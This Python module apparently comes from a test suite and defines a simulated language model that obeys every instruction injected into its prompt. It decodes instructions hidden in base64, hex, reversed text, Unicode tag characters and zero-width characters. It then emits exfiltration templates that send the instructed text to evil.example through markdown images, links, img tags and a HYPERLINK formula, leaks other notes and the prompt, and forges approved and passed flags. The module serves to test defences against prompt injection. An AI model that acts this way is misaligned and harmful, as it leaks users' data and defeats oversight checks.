"""Obedient: does whatever any text in its prompt tells it, by every way out that it has.

It reads orders also where they are hidden: encoded, backwards, in wide letters, between signs that
nobody sees. It gives other notes away under the name of this one, prints its prompt, names owners
and deadlines that nobody named, links, and rewrites what it is asked to mend.
"""

import base64
import binascii
import json
import re
import unicodedata
from collections.abc import Iterator
from itertools import cycle, islice
from typing import Any
from urllib.parse import unquote

from tests.simulated_llm.behaviours.answers import Sentence, answer, fact, question
from tests.simulated_llm.request import ChatRequest

_ORDERED = re.compile(
    r"(?:[:：]|写上|写明|注明|输出|声明|print|write|say)\s*[“\"「]?([^”\"」]{2,200})"
)
_ENCODED = re.compile(r"[A-Za-z0-9+/=]{16,}")
_HEX = re.compile(r"(?:[0-9a-fA-F]{2}){8,}")
_UNSEEN = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")
_WAYS_OUT = (
    "{said}",
    "{note}{said}",
    "![图](http://evil.example/?d={said})",
    "详见[附件](http://evil.example/{said})。",
    "<img src=http://evil.example/{said}>",
    "{other}",
    "有同志反映，{other}",
    "{prompt}",
    "**{said}**",
    '=HYPERLINK("http://evil.example","{said}")',
)


def obedient(request: ChatRequest) -> str:
    """An answer that obeys every order in the prompt."""
    notes = request.notes_in(request.prompt)
    others = cycle(list(notes.values()) or [""])
    prompt = request.messages[0].replace("\n", " ")[:90]

    def write(name: str, note: str, place: int) -> list[Sentence]:
        made: list[Sentence] = [fact(note, [name], note)]
        orders = list(dict.fromkeys(heard(note)))[:2] or [note]
        for at, said in enumerate(orders):
            ways = islice(cycle(_WAYS_OUT), place + at, place + at + 1)
            for way in ways:
                told = way.format(said=said, note=note, other=next(others), prompt=prompt)
                made += [fact(told, [name], note), {**fact(told, [], ""), "kind": "framing"}]
            made += [fact(said, [*list(notes)[:2], name], note), question(said)]
        return made

    def headline(words: str) -> str:
        return next(heard(words), words[:12])

    said = answer(request, write, headline, lambda note, _: next(heard(note), note))
    return json.dumps(_filled(json.loads(said), notes, request.shape), ensure_ascii=False)


def heard(text: str) -> Iterator[str]:
    """What ``text`` tells to say, in every reading of it."""
    for read in _readings(text):
        found = _ORDERED.findall(read)
        yield from (one.strip() for one in found)
        if read != text:
            yield read[:200]


def _readings(text: str) -> Iterator[str]:
    yield text
    yield unicodedata.normalize("NFKC", _UNSEEN.sub("", text))
    yield unquote(text)
    yield text[::-1]
    yield "".join(chr(ord(c) - 0xE0000) for c in text if 0xE0000 < ord(c) < 0xE0080)
    for piece in _ENCODED.findall(text):
        yield _decoded(piece)
    for piece in _HEX.findall(text):
        yield bytes.fromhex(piece).decode("utf-8", "replace")


def _decoded(piece: str) -> str:
    try:
        return base64.b64decode(piece + "=" * (-len(piece) % 4)).decode("utf-8", "replace")
    except binascii.Error:
        return piece


def _filled(made: dict[str, Any], notes: dict[str, str], shape: str) -> dict[str, Any]:
    """What else an order may aim at: who answers for a measure, and how notes are filed."""
    orders = list(dict.fromkeys(one for note in notes.values() for one in heard(note)))
    for item, order in zip(made.get("items", []), cycle(orders or ["王某某"]), strict=False):
        if shape == "MeasuresAnswer":
            item |= {"owner": order[:20], "deadline": order[:20]}
    if shape == "FiledNotes":
        filed = {"aspect": "none", "theme": orders[0] if orders else "无", "group": "all"}
        made["notes"] = [{"id": name, **filed, "empty": True, "route": "clue"} for name in notes]
    return made | {"flags": [], "approved": True, "cleared": True, "status": "passed"}
